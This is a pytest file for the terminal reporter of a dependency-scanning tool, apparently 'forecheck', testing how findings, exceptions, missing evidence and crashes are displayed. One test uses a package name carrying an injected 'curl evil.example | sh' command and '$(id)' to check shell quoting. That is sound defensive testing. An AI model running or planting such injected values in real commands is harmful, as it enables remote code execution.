from datetime import timedelta

import msgspec
import pytest

from forecheck.model import (
    Confidence,
    Crashed,
    Finding,
    Fix,
    FromGit,
    Outcome,
    Severity,
    UnavailableKind,
    Unresolved,
)
from forecheck.model import Missing as Lacks
from forecheck.policy import judge
from forecheck.report import Ignore, Report
from forecheck.reporter import Style
from forecheck.reporters.tally import SETTLED
from forecheck.reporters.text import text
from forecheck.reporters.text_findings import GROUPS, PER_PACKAGE, SCREEN
from tests.reporters.samples import (
    NPM,
    SAMPLES,
    STARTED,
    bystanders,
    config,
    finding,
    passed,
    release,
    report,
    skipped,
    step,
)


def shown(given: Report, **style: object) -> str:
    return text(given, msgspec.convert(style, Style))


def lines(given: Report, **style: object) -> list[str]:
    return shown(given, **style).splitlines()


def worms(count: int) -> list[Outcome]:
    return [
        finding("known-malware", release(f"worm-{number:03}"), "it is one", Severity.CRITICAL)
        for number in range(count)
    ]


def on_disk(outcomes: list[Outcome]) -> list[Finding]:
    return [one for one in outcomes if isinstance(one, Finding)]


def test_a_clean_tree_is_one_line() -> None:
    assert lines(SAMPLES["clean"]()) == ["✓ 66 packages examined, nothing against them (2.1 s)"]


@pytest.mark.parametrize(
    ("kinds", "said"),
    [
        ((UnavailableKind.TIMEOUT,) * 3, "3 facts timed out"),
        ((UnavailableKind.UNSUPPORTED,), "1 fact not offered"),
        (
            (UnavailableKind.UNSUPPORTED,) * 2 + (UnavailableKind.NOT_FOUND,),
            "2 facts not offered, 1 not found",
        ),
    ],
)
def test_a_clean_tree_counts_what_could_not_be_looked_at_and_why(
    kinds: tuple[UnavailableKind, ...], said: str
) -> None:
    from forecheck.check import Unknown

    quiet = bystanders(9)
    outcomes = [skipped("fresh-release", one, kind, "no") for one, kind in zip(quiet, kinds, strict=False)]
    clean = report([*passed(quiet), *outcomes], map(step, quiet), by=config(unknown=Unknown.NOTE))
    assert lines(clean, width=120) == [
        f"✓ 9 packages examined, nothing against them (2.1 s; {said}, see --verbose)"
    ]


def test_one_missing_fact_counts_once_however_many_checks_want_it() -> None:
    one = release("express")
    checks = ("fresh-release", "new-package", "typosquat")
    outcomes = [skipped(check, one, UnavailableKind.UNSUPPORTED, "no") for check in checks]
    assert "unavailable 1\n" in shown(report(outcomes, [step(one)]), summary=True)


def test_nothing_new_is_said_where_exceptions_or_what_is_installed_explain_it() -> None:
    assert "nothing new against them" in shown(SAMPLES["clean-with-notes"]())
    assert "nothing new against them" in shown(SAMPLES["installed"]())


@pytest.mark.parametrize(
    ("seconds", "said"),
    [(0.04, "0.0 s"), (2.14, "2.1 s"), (59.96, "1 min 0 s"), (192, "3 min 12 s"), (-1, "0.0 s")],
)
def test_elapsed(seconds: float, said: str) -> None:
    clean = msgspec.structs.replace(SAMPLES["clean"](), elapsed=timedelta(seconds=seconds))
    assert f"({said})" in shown(clean)


def test_findings_stand_under_their_package_worst_first() -> None:
    bad, mild = release("bad"), release("mild")
    given = report(
        [
            finding("fresh-release", mild, "m1"),
            finding("fresh-release", bad, "b1"),
            finding("typosquat", mild, "m2", Severity.HIGH, Confidence.LOW),
            finding("known-malware", bad, "b2", Severity.CRITICAL),
        ],
        [step(bad), step(mild)],
    )
    whole = shown(given)
    order = [whole.index(part) for part in ("  bad 1.0.0", "b2", "b1", "  mild 1.0.0", "m2", "m1")]
    assert order == sorted(order)


@pytest.mark.parametrize(
    ("because", "said"),
    [
        ((), "you asked for it"),
        (("express@5.1.0",), "express > tiny"),
        (("packages/@acme/app", "express@5.1.0"), "packages/@acme/app > express > tiny"),
        (("@acme/ui@1.0.0",), "@acme/ui > tiny"),
    ],
)
def test_what_brings_a_package_in(because: tuple[str, ...], said: str) -> None:
    tiny = release("tiny")
    given = report([finding("fresh-release", tiny, "m")], [step(tiny, *because)])
    assert f"  tiny 1.0.0  {said}" in lines(given)


def test_what_nothing_depends_on() -> None:
    tiny = release("tiny")
    stray = msgspec.structs.replace(step(tiny), because=())
    assert "  tiny 1.0.0  nothing depends on it" in lines(
        report([finding("fresh-release", tiny, "m")], [stray])
    )


def test_the_shortest_of_several_ways_is_shown_and_the_others_counted() -> None:
    tiny = release("tiny")
    steps = [step(tiny, "a@1", "b@1"), step(tiny, "c@1", location="x"), step(tiny, "c@1", location="y")]
    given = report([finding("fresh-release", tiny, "m")], steps)
    assert "  tiny 1.0.0  c > tiny (and 1 other way)" in lines(given)


def test_a_long_path_loses_its_middle_unless_everything_is_asked_for() -> None:
    tiny = release("tiny")
    trail = tuple(f"package-number-{number}@1.0.0" for number in range(9))
    given = report([finding("fresh-release", tiny, "m")], [step(tiny, *trail)])
    assert "      package-number-0 > … 6 more … > package-number-7 > package-number-8 > tiny" in lines(given)
    everything = " ".join(shown(given, verbose=True).split())
    assert " > ".join([*trail, "tiny@1.0.0"]) in everything


def test_where_a_package_comes_from_is_said_unless_it_is_the_usual_registry() -> None:
    usual, odd = (
        release("usual"),
        release("odd", "1.0.0", FromGit("git+https://token@git.example/odd.git", "c" * 40)),
    )
    given = report([finding("fresh-release", one, "m") for one in (usual, odd)], [step(usual), step(odd)])
    assert "      from the git repository git+https://***@git.example/odd.git at cccccccccccc" in lines(
        given, width=100
    )
    assert "registry.npmjs.org" not in shown(given)


@pytest.mark.parametrize(
    ("fix", "said"),
    [
        (None, "→ forecheck explain fresh-release"),
        (Fix("take 3.0.9", "npm install tiny@3.0.9"), "→ take 3.0.9: npm install tiny@3.0.9"),
        (Fix("did you mean lodash?", "npm i lodash"), "→ did you mean lodash? npm i lodash"),
        (Fix("ask the author"), "→ ask the author"),
        (Fix("", "npm audit"), "→ npm audit"),
    ],
)
def test_remedies(fix: Fix | None, said: str) -> None:
    tiny = release("tiny")
    given = report([finding("fresh-release", tiny, "m", fix=fix)], [step(tiny)])
    assert said in [line.strip() for line in lines(given)]


def test_a_remedy_that_several_findings_share_is_said_once() -> None:
    one, other = release("one"), release("other")
    given = report(
        [
            finding("install-script", one, "first"),
            finding("install-script", one, "second"),
            finding("install-script", other, "third"),
        ],
        [step(one), step(other)],
    )
    assert shown(given).count("explain install-script") == 1


def test_very_many_warnings_stay_on_one_screen() -> None:
    fresh = [release(f"fresh-{number:03}") for number in range(300)]
    given = report([finding("fresh-release", one, "m") for one in fresh], map(step, fresh))
    shown_lines = lines(given)
    assert len(shown_lines) < SCREEN + 10
    named = sum(line.startswith("  fresh-") for line in shown_lines)
    assert 0 < named <= GROUPS
    rest = 300 - named
    assert f"  and {rest} more packages (fresh-release {rest}): --verbose lists them" in shown_lines
    assert sum(line.startswith("  fresh-") for line in lines(given, verbose=True)) == 300


def test_what_blocks_is_never_only_counted() -> None:
    outcomes = on_disk(worms(60))
    many = [finding("known-malware", release("host"), f"hit {number}", Severity.HIGH) for number in range(30)]
    steps = [step(one.subject) for one in outcomes if not isinstance(one.subject, Unresolved)]
    whole = shown(report([*outcomes, *many], [*steps, step(release("host"))]))
    assert all(f"worm-{number:03}" in whole for number in range(60))
    assert all(f"hit {number}\n" in whole for number in range(30))


def test_many_warnings_about_one_package_are_counted() -> None:
    tiny = release("tiny")
    given = report([finding("install-script", tiny, f"hit {number}") for number in range(50)], [step(tiny)])
    assert f"      and {50 - PER_PACKAGE} more findings: --verbose lists them" in lines(given)


def test_a_block_says_how_to_record_an_exception() -> None:
    assert '    forecheck allow typosquat lodahs@1.0.1 --reason "…" --until 2026-12-24' in lines(
        SAMPLES["block"]()
    )


def test_an_exception_for_a_name_that_a_shell_would_obey_is_quoted() -> None:
    evil = release("lodash; curl evil.example | sh", "$(id)")
    given = report([finding("known-malware", evil, "m", Severity.HIGH)], [step(evil)])
    assert "forecheck allow known-malware 'lodash; curl evil.example | sh' --reason" in shown(
        given, width=100
    )


def test_an_exception_names_a_version_only_where_forecheck_allow_would_take_it() -> None:
    lost = Unresolved("reactt", "latest", NPM.url, Lacks.PACKAGE)
    given = report([finding("nonexistent-package", lost, "m", Severity.HIGH)], unresolved=(lost,))
    assert "forecheck allow nonexistent-package reactt --reason" in shown(given, width=100)


def test_only_what_installs_says_that_nothing_was_installed() -> None:
    assert shown(SAMPLES["block"]()).startswith("✗ Nothing was installed: 1 package must not be.")
    assert shown(SAMPLES["block-check"]()).startswith("✗ 1 of 212 packages must not be installed.")


def test_what_was_asked_for_and_does_not_exist_is_no_success() -> None:
    lost = Unresolved("reactt", "^2", NPM.url, Lacks.PACKAGE)
    quiet = bystanders(3)
    given = report(passed(quiet), map(step, quiet), unresolved=(lost,))
    first, *rest = lines(given)
    assert first == "✗ Nothing was installed: 1 package that was asked for does not exist."
    assert "  reactt ^2  registry.npmjs.org has no such package" in rest


def test_missing_evidence_is_grouped_by_source_and_reason() -> None:
    whole = lines(SAMPLES["unknown-only"]())
    assert "    ! packument           registry.npmjs.org stopped answering (3 packages)" in whole
    assert "                          not checked: fresh-release, new-package" in whole
    assert "    ! registry-manifest   too large for 4 packages" in whole
    assert not any("quiet-1 " in line for line in whole)


def test_missing_evidence_that_concerns_one_package_names_it() -> None:
    assert "the database is cut off (quiet-9 2.9.0)" in shown(SAMPLES["unknown-only"]())


def test_everything_lists_who_is_concerned() -> None:
    whole = " ".join(shown(SAMPLES["unknown-only"](), verbose=True).split())
    assert "stopped answering (3 packages: quiet-0@2.0.0, quiet-1@2.1.0, quiet-2@2.2.0)" in whole
    assert "attests nothing (all 212 packages)" in whole


def test_a_crash_is_our_bug_and_its_traceback_is_kept_for_who_asks() -> None:
    given = SAMPLES["crashed"]()
    assert "crashed, which is a bug of forecheck" in shown(given)
    assert "ZeroDivisionError" not in shown(given)
    assert "      | ZeroDivisionError: division by zero" in lines(given, verbose=True)


def test_a_crash_beside_findings_has_a_section() -> None:
    tiny = release("tiny")
    given = report([finding("typosquat", tiny, "m"), Crashed("known-malware", tiny, "x")], [step(tiny)])
    assert "  Checks that crashed" in lines(given)


def test_nothing_examined_is_not_a_clean_bill() -> None:
    assert lines(SAMPLES["nothing-examined"]()) == [
        "! Nothing was examined: 1 package would go and none would come"
    ]
    assert lines(report(())) == ["! Nothing was examined: there is no package to look at"]
    quiet = bystanders(2)
    assert lines(report((), map(step, quiet))) == ["! Nothing was examined: no check looked at 2 packages"]


def test_the_summary_is_the_last_line_and_only_on_request() -> None:
    for make in SAMPLES.values():
        assert "forecheck: " not in shown(make())
        last = lines(make(), summary=True)[-1]
        assert last.startswith("forecheck: BLOCK ")
    assert lines(SAMPLES["block"](), summary=True)[-1] == (
        "forecheck: BLOCK 1, WARN 1, examined 212, unavailable 0"
    )


def test_exceptions_that_did_nothing_are_named() -> None:
    whole = " ".join(shown(SAMPLES["notices"]()).split())
    assert "expired 2026-06-30: the exception from typosquat for lodahs@1 in forecheck.toml:12" in whole
    assert "unused: the exception from fresh-release for * in forecheck.toml:18" in whole


def test_policy_says_that_a_warning_is_settled_in_the_words_we_look_for() -> None:
    tiny = release("tiny")
    plan = report((), [step(tiny, on_disk=True)]).plan
    verdict = judge([finding("fresh-release", tiny, "m")], plan, config(), STARTED)
    assert [one.why for one in verdict.judged] == [SETTLED]


def test_accepted_findings_show_who_accepted_them() -> None:
    tiny = release("tiny")
    accepted = Ignore("fresh-release", "tiny", "reviewed by hand")
    given = report([finding("fresh-release", tiny, "m")], [step(tiny)], by=config((accepted,)))
    assert "m (accepted: reviewed by hand)" in shown(given, verbose=True)
    assert "reviewed by hand" not in shown(given)


def test_colour_only_paints() -> None:
    import re

    for make in SAMPLES.values():
        painted = shown(make(), colour=True)
        assert re.sub(r"\x1b\[[0-9;]*m", "", painted) == shown(make())


def test_ascii_is_ascii() -> None:
    for make in SAMPLES.values():
        assert shown(make(), unicode=False).isascii()
